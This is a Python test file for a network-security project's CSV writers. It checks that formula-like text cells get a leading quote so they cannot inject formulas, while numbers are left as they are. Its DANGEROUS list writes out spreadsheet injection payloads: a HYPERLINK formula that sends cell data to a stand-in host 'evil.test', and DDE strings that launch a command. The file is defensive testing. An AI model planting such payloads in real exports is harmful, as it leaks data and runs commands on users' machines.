"""Spreadsheet formula injection: every CSV the project writes neutralises formula-like text
cells (OWASP), and leaves numbers as numbers."""

from __future__ import annotations

import csv

import pandas as pd
from kedro.io import DataCatalog
from synthetic import frame_to_csv  # scripts/synthetic.py (pytest pythonpath)

from network_security.datasets import SafeCSVDataset, neutralise_formulas
from network_security.datasets.chunked_csv import ChunkedCSVDataset

DANGEROUS = [
    '=HYPERLINK("http://evil.test/?"&A2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
]
HARMLESS = ["https://example.test/a=b", "plain text", "", "1", "-1", "+1", "-0.5", "-2e3", "12.5"]


def read_cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_like_text_gets_a_leading_quote_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "url": pd.Series([*DANGEROUS, *HARMLESS], dtype=object),
            "score": [-1] * (len(DANGEROUS) + len(HARMLESS)),
            "ratio": [-0.25] * (len(DANGEROUS) + len(HARMLESS)),
        }
    )
    original = frame.copy()
    neutral = neutralise_formulas(frame)
    assert neutral["url"].tolist() == [*("'" + cell for cell in DANGEROUS), *HARMLESS]
    assert neutral["score"].tolist() == original["score"].tolist()
    assert neutral["score"].dtype == original["score"].dtype
    assert neutral["ratio"].dtype == original["ratio"].dtype
    pd.testing.assert_frame_equal(frame, original)  # the input is not modified


def test_string_dtype_mixed_objects_and_column_names_are_covered():
    frame = pd.DataFrame(
        {
            "=cmd()": pd.Series(["=1+1", None, "ok"], dtype="string"),
            "mixed": pd.Series([-1, "@x", 2.5], dtype=object),
        }
    )
    neutral = neutralise_formulas(frame)
    assert list(neutral.columns) == ["'=cmd()", "mixed"]
    assert neutral["'=cmd()"].tolist()[0] == "'=1+1"
    assert pd.isna(neutral["'=cmd()"].tolist()[1])
    assert neutral["mixed"].tolist() == [-1, "'@x", 2.5]


def test_a_frame_without_formulas_is_returned_as_is():
    frame = pd.DataFrame({"url": ["https://a.test", "b"], "x": [-1, 1]})
    assert neutralise_formulas(frame) is frame


def test_chunked_csv_dataset_writes_neutralised_cells(tmp_path):
    path = tmp_path / "predictions.csv"
    frame = pd.DataFrame({"url": pd.Series(DANGEROUS + HARMLESS, dtype=object), "prediction": -1})
    ChunkedCSVDataset(str(path)).save(iter([frame.iloc[:5], frame.iloc[5:]]))
    rows = read_cells(path)
    assert rows[0] == ["url", "prediction"]
    urls = [row[0] for row in rows[1:]]
    assert urls == [*("'" + cell for cell in DANGEROUS), *HARMLESS]
    assert {row[1] for row in rows[1:]} == {"-1"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in urls[:8])


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(tmp_path):
    path = tmp_path / "predictions.csv"
    frame = pd.DataFrame({"url": ["x\r=HYPERLINK(1)", "y\n=1+1"], "prediction": [1, -1]})
    ChunkedCSVDataset(str(path)).save(frame)
    assert read_cells(path) == [["url", "prediction"], ["x\r=HYPERLINK(1)", "1"], ["y\n=1+1", "-1"]]
    written = path.read_bytes()  # text cells are quoted, so the line break stays inside the cell
    assert b'"x\r=HYPERLINK(1)"' in written and b'"y\n=1+1"' in written


def test_safe_csv_dataset_in_the_catalog_and_inside_mlflow_artifact_dataset(tmp_path):
    frame = pd.DataFrame({"feature": ["=evil()", "URL_Length"], "importance": [-0.5, 0.25]})
    catalog = DataCatalog.from_config(
        {
            "plain": {
                "type": "network_security.datasets.SafeCSVDataset",
                "filepath": str(tmp_path / "plain.csv"),
                "save_args": {"index": False},
            },
            "logged": {
                "type": "kedro_mlflow.io.artifacts.MlflowArtifactDataset",
                "dataset": {
                    "type": "network_security.datasets.SafeCSVDataset",
                    "filepath": str(tmp_path / "logged.csv"),
                    "save_args": {"index": False},
                },
            },
        }
    )
    catalog.save("plain", frame)
    catalog["logged"]._logging_activated = False  # no MLflow run here: only the file matters
    catalog.save("logged", frame)
    for name in ("plain.csv", "logged.csv"):
        assert read_cells(tmp_path / name) == [
            ["feature", "importance"],
            ["'=evil()", "-0.5"],
            ["URL_Length", "0.25"],
        ]
    assert isinstance(SafeCSVDataset(filepath=str(tmp_path / "x.csv")), SafeCSVDataset)


def test_the_synthetic_generator_writes_through_the_same_guard():
    text = frame_to_csv(pd.DataFrame({"url": ["=1+1"], "x": [-1]}))
    assert text == "url,x\n'=1+1,-1\n"


def test_a_large_clean_column_is_left_as_is():
    frame = pd.DataFrame({"url": [f"https://site-{i}.test/" for i in range(200_000)], "x": -1})
    assert neutralise_formulas(frame) is frame
